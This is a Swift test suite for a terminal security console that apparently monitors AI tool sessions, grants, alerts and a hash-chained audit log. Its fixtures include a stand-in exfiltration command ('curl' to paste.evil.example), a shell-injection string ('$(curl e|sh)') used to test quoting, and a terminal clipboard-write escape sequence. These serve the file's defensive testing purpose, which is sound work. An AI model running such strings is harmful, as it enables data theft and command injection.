import Foundation
import Testing
import WardenCore
import WardenHubAPI
import Crypto
@testable import WardenConsole

@Suite("frame: escaping, widths, clipping")
struct FrameTests {
    @Test("control characters, ANSI, bidi, zero-width and tag characters are drawn as visible escapes")
    func escapes() {
        var f = Frame(rows: 1, cols: 80)
        f.put("a\u{1B}[31mb\u{202E}c\u{200B}d\u{E0041}\n", row: 0, col: 0)
        #expect(f.text == "a␛[31mb<U+202E>c<U+200B>d<U+E0041>␊")
        #expect(f[0, 1].role == .escaped && f[0, 0].role == .normal)
    }

    @Test("wide characters take two cells; text that does not fit ends in an ellipsis and never spills")
    func widths() {
        var f = Frame(rows: 2, cols: 10)
        let end = f.put("日本語テキスト", row: 0, col: 0, width: 7)
        #expect(end == 7)
        #expect(f.text.split(separator: "\n").first == "日本語…")
        f.put(String(repeating: "x", count: 10_000), row: 1, col: 2, width: 5)
        #expect(f.text.split(separator: "\n").last == "  xxxx…")
        #expect(f[1, 7].text == " " && f[1, 0].text == " ")
    }

    @Test("combining marks join their letter; a pile of them is escaped, not stacked")
    func combining() {
        var f = Frame(rows: 1, cols: 40)
        f.put("e\u{301}z\u{301}\u{302}\u{303}", row: 0, col: 0)
        #expect(f[0, 0].text == "e\u{301}")
        #expect(f.text.contains("<U+302>"))
    }
}

@Suite("console model: keys to actions")
struct ModelTests {
    func model(_ view: ViewID) -> ConsoleModel {
        var m = ConsoleModel(data: Fixtures.data)
        m.state.view = view
        return m
    }

    @Test("pushed events change session rows at once; the list is refiltered when the app asks (once a second), not on every push")
    func staleSessions() {
        var m = model(.sessions)
        m.apply(filter: "windsurf")
        #expect(m.rows(.sessions).isEmpty)
        let e = Event(sequence: 9, time: Fixtures.now, session: "s-1", server: "git", kind: .sessionInitialized, fields: ["client": "windsurf", "clientVersion": "2"])
        #expect(m.applyPushed(events: [e]).listSessions == false)
        #expect(m.data.sessions[0].client == "windsurf 2")
        #expect(m.rows(.sessions).isEmpty && m.sessionsStale)
        m.refilterStaleSessions()
        #expect(m.rows(.sessions) == [0] && !m.sessionsStale)
    }

    @Test("approving a pending grant: a opens the dialog, arrows choose the scope, typing sets the TTL, enter approves")
    func approve() {
        var m = model(.grants)
        #expect(m.handle(.char("a")).isEmpty)
        _ = m.handle(.right)
        _ = m.handle(.backspace)
        _ = m.handle(.backspace)
        _ = m.handle(.backspace)
        for c in "30m" { _ = m.handle(.char(c)) }
        #expect(m.handle(.enter) == [.perform(.approveGrant(id: "g-1", scope: "session", ttl: "30m"))])
        #expect(m.state.modal == nil)
    }

    @Test("a timeline's calls are links: j/k move the cursor over them, enter opens the call, esc comes back to the timeline")
    func callDetail() {
        var m = model(.sessions)
        _ = m.handle(.down)
        #expect(m.handle(.enter) == [.loadSession("s-2")])
        #expect(m.detailLinks.count == 5)
        for _ in 0..<4 { _ = m.handle(.down) }
        #expect(m.handle(.enter) == [])
        #expect(m.state.detail == .call(session: "s-2", request: "6"))
        #expect(m.handle(.escape) == [.loadSession("s-2")])
        #expect(m.state.detail == .session("s-2") && m.state.detailCursor == 4)
        _ = m.handle(.escape)
        #expect(m.state.detail == nil)
    }

    @Test("m marks alerts; x acknowledges every marked one, f closes them all as false positives after one reason and one confirmation")
    func bulk() {
        var m = model(.alerts)
        _ = m.handle(.char("m"))
        _ = m.handle(.char("m"))
        #expect(m.state.marked == ["a-1", "a-2"])
        let frame = ConsoleRenderer(utcOffset: 0).render(&m, size: TerminalSize(rows: 24, cols: 80), now: Fixtures.now)
        #expect(frame.text.contains("●"))
        _ = m.handle(.char("f"))
        for c in "scanner" { _ = m.handle(.char(c)) }
        #expect(m.handle(.enter) == [])
        #expect(m.handle(.char("y")) == [.performAll([.falsePositive(id: "a-1", reason: "scanner"), .falsePositive(id: "a-2", reason: "scanner")])])
        #expect(m.state.marked.isEmpty)
        _ = m.handle(.char("M"))
        #expect(m.handle(.char("x")) == [.performAll([.acknowledgeAlert(id: "a-1"), .acknowledgeAlert(id: "a-2")])])
    }

    @Test("the side pane fetches the selected row's detail once per selection, and only when the terminal is wide")
    func previewLoads() {
        var m = model(.sessions)
        #expect(m.syncPreview(width: 120) == [])
        #expect(m.syncPreview(width: 200) == [.loadSession("s-1")])
        #expect(m.syncPreview(width: 200) == [], "unchanged selection: nothing fetched again")
        _ = m.handle(.down)
        #expect(m.syncPreview(width: 200) == [.loadSession("s-2")])
        m.open(.alerts)
        #expect(m.syncPreview(width: 200) == [], "alerts are in the list already")
        #expect(m.state.previewed == .alert("a-1"))
    }

    @Test("the timeline's cursor stays on its event when new events arrive above it")
    func cursorFollowsEvent() {
        var m = model(.sessions)
        m.update { d in for (i, _) in d.sessionDetail!.events.enumerated() { d.sessionDetail!.events[i].id = "e\(i)" } }
        m.state.detail = .session("s-2")
        _ = m.handle(.down)
        _ = m.handle(.down)
        #expect(m.state.detailCursor == 2 && m.state.detailCursorKey == "e2")
        m.update { d in
            let new = EventRow(time: Fixtures.now, kind: "call.completed", summary: "git_status", call: "8", fields: ["id": 8], id: "e-new")
            d.sessionDetail!.events.insert(new, at: 0)
        }
        #expect(m.state.detailCursor == 3, "the cursor moved with its event")
        #expect(m.handle(.enter) == [] && m.state.detail == .call(session: "s-2", request: "7"))
    }

    @Test("the call's detail says what it carried, who decided, what it cost and what was found")
    func callDetailContent() {
        var m = model(.sessions)
        m.state.detail = .call(session: "s-2", request: "7")
        let text = ConsoleRenderer(utcOffset: 0).render(&m, size: TerminalSize(rows: 50, cols: 200), now: Fixtures.now).text
        for expected in ["decision:      approved", "grant:         g-2", "decided by:    alice (uid 1000)", "latency:       1.2 s", "result size:   47.1 KB",
                         "destinations:  paste.evil.example", "curl https://paste.evil.example/<U+202E>x", "dlp.finding"] {
            #expect(text.contains(expected), "missing \(expected)")
        }
    }

    @Test("an audit record's detail shows its details (the reason of a denial), its hashes and whether the chain covers it")
    func auditDetail() {
        var m = model(.audit)
        #expect(m.handle(.enter) == [])
        #expect(m.state.detail == .audit(30))
        let text = ConsoleRenderer(utcOffset: 0).render(&m, size: TerminalSize(rows: 24, cols: 80), now: Fixtures.now).text
        #expect(text.contains("reason:        looks like exfiltration ␛]52;c;cHduZWQ=␇"))
        #expect(text.contains("verified: the chain is intact through record 30"))
        #expect(m.handle(.escape) == [] && m.state.detail == nil)
        #expect(m.handle(.char("V")) == [.verifyAudit])
    }

    @Test("K, R and X on a session ask for a reason and a confirmation and become response actions; an ended session cannot be terminated")
    func containment() {
        var m = model(.sessions)
        for (key, action) in [("K", ConsoleAction.respond(.terminateSession, args: ["s-1"], reason: "exfil")),
                              ("R", .respond(.revokeGrants, args: ["session", "s-1"], reason: "exfil")),
                              ("X", .respond(.blockServer, args: ["git"], reason: "exfil"))] {
            _ = m.handle(.char(Character(key)))
            for c in "exfil" { _ = m.handle(.char(c)) }
            #expect(m.handle(.enter) == [])
            guard case .confirm(let title, action)? = m.state.modal else { Issue.record("\(key): no confirmation"); continue }
            #expect(title.contains("?"))
            #expect(m.handle(.char("y")) == [.perform(action)])
        }
        #expect(ConsoleAction.respond(.blockServer, args: ["evil name"], reason: "y").cli == "warden respond block-server 'evil name' --reason …")
        _ = m.handle(.end)
        _ = m.handle(.char("K"))
        #expect(m.state.modal == nil && m.state.message?.contains("already ended") == true)
    }

    @Test("denying needs a reason and a confirmation; esc cancels without acting")
    func deny() {
        var m = model(.grants)
        _ = m.handle(.char("d"))
        #expect(m.handle(.enter).isEmpty, "an empty reason is refused")
        #expect(m.state.message == "a reason is required")
        for c in "not on prod" { _ = m.handle(.char(c)) }
        #expect(m.handle(.enter).isEmpty)
        guard case .confirm? = m.state.modal else { Issue.record("no confirmation"); return }
        #expect(m.handle(.char("y")) == [.perform(.denyGrant(id: "g-1", reason: "not on prod"))])

        var cancelled = model(.grants)
        _ = cancelled.handle(.char("d"))
        _ = cancelled.handle(.escape)
        #expect(cancelled.state.modal == nil)
    }

    @Test("only pending grants are approved or denied; only active ones revoked")
    func wrongState() {
        var m = model(.grants)
        _ = m.handle(.char("G"))
        _ = m.handle(.char("a"))
        #expect(m.state.modal == nil && m.state.messageIsError)
        _ = m.handle(.char("r"))
        guard case .input(_, _, .revokeGrant("g-3"))? = m.state.modal else { Issue.record("revoke should ask for a reason"); return }
    }

    @Test("quarantine and trust ask for confirmation (typed, naming the verdict, for a malicious tool); suppress cycles the tool's rules with tab")
    func tools() {
        var m = model(.tools)
        _ = m.handle(.char("a"))
        guard case .typedConfirm(let title, "trust", _, _)? = m.state.modal else { Issue.record("trusting a malicious tool should ask for a typed word"); return }
        #expect(title.contains("MALICIOUS") && title.contains("score"))
        #expect(m.handle(.char("y")).isEmpty && m.handle(.enter).isEmpty, "one key does not trust a malicious tool")
        #expect(m.state.message == "type trust to confirm (esc cancels)")
        _ = m.handle(.backspace)
        for c in "trust" { _ = m.handle(.char(c)) }
        #expect(m.handle(.enter) == [.perform(.approveTool(name: "evil/add"))])
        _ = m.handle(.char("s"))
        _ = m.handle(.tab)
        for c in "known" { _ = m.handle(.char(c)) }
        _ = m.handle(.enter)
        #expect(m.handle(.char("y")) == [.perform(.suppressRule(name: "evil/add", rule: "unicode.invisible", reason: "known"))])
    }

    @Test("B resets a tool's behaviour baseline: a reason, then a confirmation, then the hub call the CLI makes")
    func resetBaseline() {
        var m = model(.tools)
        _ = m.handle(.char("B"))
        #expect(m.handle(.enter).isEmpty && m.state.message == "a reason is required")
        for c in "v2 changed its arguments" { _ = m.handle(.char(c)) }
        #expect(m.handle(.enter).isEmpty)
        let action = ConsoleAction.resetBaseline(name: "evil/add", reason: "v2 changed its arguments")
        #expect(m.state.modal == .confirm(title: ConsoleModel.confirmation(action), action: action))
        #expect(m.handle(.char("y")) == [.perform(action)])
        #expect(action.request.method == .baselinesReset && action.cli == "warden baselines reset evil/add --reason …")
    }

    @Test("/ filters by regular expression, esc clears it; a bad expression is reported, not applied")
    func filter() {
        var m = model(.audit)
        for k: Key in [.char("/"), .char("a"), .char("l"), .char("i"), .char("c"), .char("e"), .enter] { _ = m.handle(k) }
        #expect(m.rows(.audit).count == 15)
        _ = m.handle(.escape)
        #expect(m.rows(.audit).count == 30)
        for k: Key in [.char("/"), .char("("), .enter] { _ = m.handle(k) }
        #expect(m.state.messageIsError && m.rows(.audit).count == 30)
    }

    @Test("/ in a detail filters the detail's lines as it is typed and leaves the list alone; esc clears it, then closes the detail")
    func detailFilter() throws {
        var m = model(.sessions)
        let id = m.data.sessions[1].id
        _ = m.handle(.down)
        _ = m.handle(.enter)
        #expect(m.state.detail == .session(id))
        for c in "call.h" { _ = m.handle(.char(c)) }
        #expect(m.state.filterInput == nil, "without / the keys are not a filter")
        _ = m.handle(.char("/"))
        for c in "call.h" { _ = m.handle(.char(c)) }
        #expect(m.state.detailFilter == "call.h", "applied while typing")
        #expect(m.rows(.sessions).count == m.data.sessions.count, "the list behind the detail is not filtered")
        _ = m.handle(.enter)
        let frame = ConsoleRenderer(utcOffset: 0).render(&m, size: TerminalSize(rows: 24, cols: 80), now: Fixtures.now)
        let text = frame.text
        #expect(text.contains("/call.h/:") && text.contains("call.held"), "\(text)")
        #expect(!text.contains("dlp.finding"), "\(text)")
        _ = m.handle(.escape)
        #expect(m.state.detailFilter.isEmpty && m.state.detail == .session(id))
        _ = m.handle(.escape)
        #expect(m.state.detail == nil)
    }

    @Test("a filtered detail's cursor steps over the calls on screen and enter opens the one it shows; lines that look like links are not")
    func filteredLinks() throws {
        var m = model(.sessions)
        _ = m.handle(.down)
        _ = m.handle(.enter)
        let r = ConsoleRenderer(utcOffset: 0)
        _ = r.render(&m, size: TerminalSize(rows: 24, cols: 80), now: Fixtures.now)
        for k: Key in [.char("/"), .char("c"), .char("o"), .char("m"), .char("p"), .enter] { _ = m.handle(k) }
        #expect(m.handle(.enter) == [] && m.state.detail == .session("s-2"), "keys in one batch: nothing is opened before a frame says what the filter shows")
        let text = r.render(&m, size: TerminalSize(rows: 24, cols: 80), now: Fixtures.now).text
        #expect(m.state.shownLinks == [1, 4], "\(text)")
        #expect(m.state.detailCursor == 1, "the cursor moved onto a call on screen")
        _ = m.handle(.down)
        #expect(m.state.detailCursor == 4, "the hidden calls between are skipped")
        _ = m.handle(.enter)
        #expect(m.state.detail == .call(session: "s-2", request: "6"))

        // A grant whose arguments hold a line of two blanks: it is not a link, and the cursor is
        // still on the first call the grant let through.
        var g = model(.grants)
        g.update { d in
            d.grants[0].arguments = "{\n  \n}"
            d.grantCalls = GrantCalls(grant: d.grants[0].id, calls: [.init(time: Fixtures.now, session: "s-2", arguments: "{}", call: "6")])
        }
        _ = g.handle(.enter)
        let frame = r.render(&g, size: TerminalSize(rows: 40, cols: 100), now: Fixtures.now).text
        let cursorLine = try #require(frame.split(separator: "\n").first { $0.contains("▶") })
        #expect(cursorLine.contains("s-2"), "\(frame)")
        _ = g.handle(.enter)
        #expect(g.state.detail == .call(session: "s-2", request: "6"))
    }

    @Test("keys act on the open detail's subject, never on the list row behind it; a call detail has no grant to decide")
    func actionsFollowTheDetail() {
        var g = model(.grants)
        g.update { d in d.grantCalls = GrantCalls(grant: d.grants[0].id, calls: [.init(time: Fixtures.now, session: "s-2", arguments: "{}", call: "6")]) }
        _ = g.handle(.enter)
        _ = g.handle(.enter)
        #expect(g.state.detail == .call(session: "s-2", request: "6"))
        for key in "adr" { _ = g.handle(.char(key)) }
        #expect(g.state.modal == nil, "no grant action from a call's detail")
        var a = model(.alerts)
        _ = a.handle(.enter)
        let shown = a.selectedAlert!.id
        a.update { d in d.alerts.swapAt(0, 1) }
        #expect(a.selectedAlert?.id == shown, "the detail's alert, wherever the list now has it")
    }

    @Test("marks act only on alerts the list shows: a changed filter or view clears them, a closed alert is skipped")
    func marksFollowTheList() {
        var m = model(.alerts)
        _ = m.handle(.char("m"))
        _ = m.handle(.char("m"))
        m.update { d in d.alerts[1].status = .resolved }
        #expect(m.handle(.char("x")) == [.performAll([.acknowledgeAlert(id: "a-1")])], "a-2 closed: hidden, so not acted on")
        _ = m.handle(.char("M"))
        #expect(!m.state.marked.isEmpty)
        for k: Key in [.char("/"), .char("x"), .enter] { _ = m.handle(k) }
        #expect(m.state.marked.isEmpty, "a filter change clears the marks")
        _ = m.handle(.escape)
        _ = m.handle(.char("M"))
        m.open(.sessions)
        m.open(.alerts)
        #expect(m.state.marked.isEmpty, "a view change clears them")
    }

    @Test("alerts resolve, assign and note, incidents close, each from a prompt; c copies the id on screen")
    func triageActions() {
        func answer(_ m: inout ConsoleModel, _ key: Character, _ text: String) -> [Effect] {
            _ = m.handle(.char(key))
            if case .input(_, let prefilled, _)? = m.state.modal { for _ in prefilled { _ = m.handle(.backspace) } }
            for c in text { _ = m.handle(.char(c)) }
            return m.handle(.enter)
        }
        var m = model(.alerts)
        let id = m.selectedAlert!.id
        #expect(answer(&m, "v", "rotated the token") == [.perform(.resolveAlert(id: id, reason: "rotated the token"))])
        #expect(answer(&m, "A", "bob") == [.perform(.assignAlert(id: id, assignee: "bob"))])
        #expect(answer(&m, "n", "seen in staging too") == [.perform(.noteAlert(id: id, text: "seen in staging too"))])
        #expect(m.handle(.char("c")) == [.copy(id)])
        #expect(ConsoleAction.resolveAlert(id: id, reason: "x").request.method == .alertsResolve)
        var p = model(.playbooks)
        let incident = p.selectedIncident!.id
        #expect(answer(&p, "X", "contained") == [.perform(.closeIncident(id: incident, resolution: "contained"))])
        var g = model(.grants)
        _ = g.handle(.enter)
        #expect(g.handle(.char("c")) == [.copy("g-1")], "in a detail, its subject's id")
    }

    @Test("R on a manual step says so instead of confirming; a stale 'reason is required' goes once typing starts")
    func manualStepAndStaleMessage() {
        var m = model(.playbooks)
        m.update { d in
            d.runDetail?.current = "s1"
            if let i = d.incidents.indices.first { d.incidents[i].run = "r-1" }
        }
        #expect(m.handle(.char("R")).isEmpty && m.state.modal == nil)
        #expect(m.state.message?.contains("manual step") == true)
        // From the list, with no run detail loaded (a narrow screen): the row says what the step is.
        var list = model(.playbooks)
        list.update { d in
            d.runDetail = nil
            if let i = d.incidents.indices.first { (d.incidents[i].run, d.incidents[i].step, d.incidents[i].stepKind) = ("r-9", "Call the owner", .manual) }
        }
        #expect(list.handle(.char("R")).isEmpty && list.state.modal == nil)
        #expect(list.state.message == "Call the owner is a manual step: nothing to run. Do it, then d marks it done")
        var g = model(.grants)
        _ = g.handle(.char("d"))
        _ = g.handle(.enter)
        #expect(g.state.message == "a reason is required")
        _ = g.handle(.char("x"))
        #expect(g.state.message == nil)
    }

    @Test(": commands switch views, complete with tab, and :q quits")
    func commands() {
        var m = model(.sessions)
        for k: Key in [.char(":"), .char("t"), .char("o"), .tab, .enter] { _ = m.handle(k) }
        #expect(m.state.view == .tools)
        for k: Key in [.char(":"), .char("q"), .enter] { _ = m.handle(k) }
        #expect(m.state.quit)
    }

    @Test("lists keep a stable order: activity does not move sessions, triage does not move alerts, closed alerts are hidden; o cycles the order")
    func stableOrder() {
        var m = model(.sessions)
        let before = m.rows(.sessions).map { m.data.sessions[$0].id }
        m.update { d in
            for i in d.sessions.indices { d.sessions[i].lastActivity += Double(i * 100) }
            d.sessions.reverse()  // the hub's order changed (it sorts by activity)
        }
        #expect(m.rows(.sessions).map { m.data.sessions[$0].id } == before, "sorted by start, whatever the hub's order")
        _ = m.handle(.char("o"))
        #expect(m.sortKey(.sessions) == .activity && m.state.message?.contains("sorted by activity") == true)
        var p = model(.playbooks)
        #expect(p.rows(.playbooks).map { p.data.incidents[$0].id } == ["i-1", "i-2"], "the hub's order first")
        _ = p.handle(.char("o"))
        #expect(p.sortKey(.playbooks) == .severity && p.rows(.playbooks).map { p.data.incidents[$0].id } == ["i-2", "i-1"], "critical first")

        var a = model(.alerts)
        let critical = a.data.alerts.first { $0.severity == .critical }!.id
        #expect(a.selectedIndex.map { a.data.alerts[$0].id } == critical, "open criticals first")
        a.update { d in
            for i in d.alerts.indices where d.alerts[i].severity != .critical { d.alerts[i].status = .acknowledged; d.alerts[i].lastSeen += 1000 }
        }
        #expect(a.rows(.alerts).first.map { a.data.alerts[$0].id } == critical, "a triaged alert does not jump above a new critical")
        a.update { d in d.alerts[d.alerts.firstIndex { $0.id == critical }!].status = .resolved }
        #expect(!a.rows(.alerts).contains { a.data.alerts[$0].id == critical }, "closed alerts are hidden")
        _ = a.handle(.char("C"))
        #expect(a.rows(.alerts).last.map { a.data.alerts[$0].id } == critical, "C shows them, after the open ones")
    }

    @Test("the selection follows its row when a refresh reorders the list")
    func selectionFollows() {
        var m = model(.sessions)
        _ = m.handle(.down)
        m.update { $0.sessions.reverse() }
        #expect(m.selectedIndex.map { m.data.sessions[$0].id } == "s-2")
    }

    @Test("mouse: a click on a tab opens its view (wide and compact tabs), a click on a row selects it, the wheel scrolls")
    func mouse() {
        var m = model(.sessions)
        // Compact tabs at 60 columns: " 1 Sess " (0-7), " 2 Gra!1 " (9-17), " 3 Tool " (19-26), " 4 Aler " (28-35).
        let alerts = ConsoleRenderer.tabs(m, cols: 200).first { $0.view == .alerts }!.columns
        _ = m.handle(.mouse(row: 1, col: alerts.lowerBound + 1, wheel: 0), width: 200)
        #expect(m.state.view == .alerts)
        _ = m.handle(.mouse(row: 1, col: 20, wheel: 0), width: 60)
        #expect(m.state.view == .tools)
        _ = m.handle(.mouse(row: 1, col: 2, wheel: 0), width: 60)
        #expect(m.state.view == .sessions)
        _ = m.handle(.mouse(row: ConsoleRenderer.listTop + 1, col: 10, wheel: 0))
        #expect(m.selectedIndex.map { m.data.sessions[$0].id } == "s-2")
        _ = m.handle(.mouse(row: 10, col: 10, wheel: -1))
        #expect(m.selectedIndex == 0)
    }

    @Test("enter asks for the detail each view needs")
    func details() {
        var m = model(.sessions)
        #expect(m.handle(.enter) == [.loadSession("s-1")])
        _ = m.handle(.escape)
        m.state.view = .tools
        #expect(m.handle(.enter) == [.loadTool("evil/add")])
        _ = m.handle(.escape)
        m.state.view = .grants
        #expect(m.handle(.enter) == [.loadGrant("g-1")])
    }

    @Test("a held call that expires unanswered, and a new critical alert, become notices wherever the operator is")
    func notices() throws {
        var m = model(.tools)
        var expired = try #require(Fixtures.data.grants.first { $0.id == "g-1" })
        expired.state = .expired
        var active = try #require(Fixtures.data.grants.first { $0.id == "g-3" })
        active.uses += 1
        let used = m.applyPushed([active])
        #expect(!used, "a grant that was used is no news")
        #expect(m.data.grants.first { $0.id == "g-3" }?.uses == 4, "the pushed grant replaces the row")
        let expiredNotice = m.applyPushed([expired])
        #expect(expiredNotice)
        #expect(m.state.message?.hasPrefix("held call fs/delete_file expired unanswered") == true && m.state.messageIsError)
        let again = m.applyPushed([expired])
        #expect(!again, "already expired: no second notice")
        var late = expired
        late.state = .pending
        _ = m.applyPushed([late])
        #expect(m.data.grants.first { $0.id == "g-1" }?.state == .expired, "a late push does not bring an ended grant back")
        #expect(ConsoleModel.pasteable("g-1a2b") == "g-1a2b")
        #expect(ConsoleModel.pasteable("evil/x$(curl e|sh)'") == #"'evil/x$(curl e|sh)'\''"# + "'", "quoted for a shell")
        #expect(ConsoleModel.pasteable("a\u{1B}[2J") == "'a␛[2J'", "and escaped")

        var alerts = model(.sessions)
        let first = alerts.replaceAlerts(Fixtures.data.alerts), second = alerts.replaceAlerts(Fixtures.data.alerts)
        #expect(!first && !second, "the first load, and alerts seen before, are not news")
        let new = AlertRow(id: "a-9", rule: "flow.toxic", severity: .critical, layer: .dataOperations, title: "exfiltration after a key read",
                           key: "flow.toxic:s-1", server: "git", events: [], firstSeen: 0, lastSeen: 0)
        let critical = alerts.replaceAlerts([new] + Fixtures.data.alerts)
        #expect(critical)
        #expect(alerts.state.message == "critical alert a-9: exfiltration after a key read (4 lists alerts)")
    }
}

@Suite("themes")
struct ThemeTests {
    static let repoThemes = URL(fileURLWithPath: #filePath).deletingLastPathComponent().deletingLastPathComponent().deletingLastPathComponent().appendingPathComponent("themes")

    @Test("the built-in themes are the repository's themes/*.yaml, and each parses")
    func builtIns() throws {
        let files = try FileManager.default.contentsOfDirectory(atPath: Self.repoThemes.path).filter { $0.hasSuffix(".yaml") }.sorted()
        #expect(files.map { String($0.dropLast(5)) } == Theme.builtInSources.keys.sorted())
        for file in files {
            let text = try String(contentsOf: Self.repoThemes.appendingPathComponent(file), encoding: .utf8)
            #expect(Theme.builtInSources[String(file.dropLast(5))] == text, "\(file) differs from Theme+BuiltIn.swift")
            _ = try Theme.parse(text, file: file)
        }
        #expect(Set(Theme.builtIn.keys) == ["default", "high-contrast", "solarized-dark", "mono"])
    }

    @Test("a bad theme names the file, line and key, and the console falls back to the default")
    func badTheme() throws {
        do {
            _ = try Theme.parse("name: x\nroles:\n  pending: {fg: chartreuse}\n", file: "mine.yaml")
            Issue.record("accepted a bad colour")
        } catch {
            #expect(error.description == "mine.yaml:3: roles.pending.fg: is not a colour (a name like red or bright-blue, 0-255, #rrggbb, or default)")
        }
        let dir = FileManager.default.temporaryDirectory.appendingPathComponent("warden-themes-\(getpid())/warden/themes")
        try FileManager.default.createDirectory(at: dir, withIntermediateDirectories: true)
        try "roles:\n  nonsense: {bold: true}\n".write(to: dir.appendingPathComponent("broken.yaml"), atomically: true, encoding: .utf8)
        let (theme, problem) = Theme.load(named: "broken", environment: ["XDG_CONFIG_HOME": dir.deletingLastPathComponent().deletingLastPathComponent().path])
        #expect(theme.name == "default")
        #expect(problem?.contains("broken.yaml:2: roles.nonsense: is not a role") == true)
    }

    @Test("colours map to what the terminal has: 8, 256, or hex to the nearest")
    func colours() {
        #expect(ThemeColor("bright-red")?.index(available: 8) == 1)
        #expect(ThemeColor("bright-red")?.index(available: 256) == 9)
        #expect(ThemeColor("#d33682")?.index(available: 256) == 168)
        #expect(ThemeColor("#d33682")?.index(available: 8) == 5)
        #expect(ThemeColor("default")?.index(available: 256) == -1)
    }

    @Test("a pushed audit record moves the verified head only when it is the next link and hashes right")
    func auditPush() throws {
        func record(_ seq: Int, after previous: String, action: String = "grant.approved") -> AuditRecord {
            var r = AuditRecord(sequence: seq, time: 1_700_000_000 + Double(seq), actor: "alice (uid 1000)", action: action, subject: "g-\(seq)",
                                details: ["reason": "ok"], previousHash: previous, hash: "")
            r.hash = SHA256.hash(data: r.hashedContent).map { String(format: "%02x", $0) }.joined()
            return r
        }
        var m = ConsoleModel(data: Fixtures.data)
        m.state.view = .audit
        m.update { $0.audit = []; $0.chain = .unknown }
        let first = record(1, after: AuditRecord.genesisHash)
        let r1 = m.appendAudit(first)
        #expect(!r1, "nothing verified yet: the whole chain is checked")
        m.update { $0.chain = .intact(records: 1, head: first.hash) }
        let second = record(2, after: first.hash)
        let r2 = m.appendAudit(second)
        #expect(r2)
        #expect(m.data.chain == .intact(records: 2, head: second.hash) && m.data.audit.first?.sequence == 2)
        var forged = record(3, after: second.hash)
        forged.action = "grant.denied"  // edited after hashing
        let r3 = m.appendAudit(forged)
        #expect(!r3, "a record whose hash is not its content's")
        #expect(m.data.chain == .intact(records: 2, head: second.hash))
        let r4 = m.appendAudit(record(4, after: second.hash))
        #expect(!r4, "a gap")
        let r5 = m.appendAudit(record(3, after: first.hash))
        #expect(!r5, "a link to another record")
        let r6 = m.appendAudit(record(3, after: second.hash))
        #expect(r6)
        // The push of a record the reload after an action already showed: no second row, no re-verify.
        let rows = m.data.audit.count
        let r7 = m.appendAudit(record(3, after: second.hash))
        #expect(r7 && m.data.audit.count == rows)
    }
}
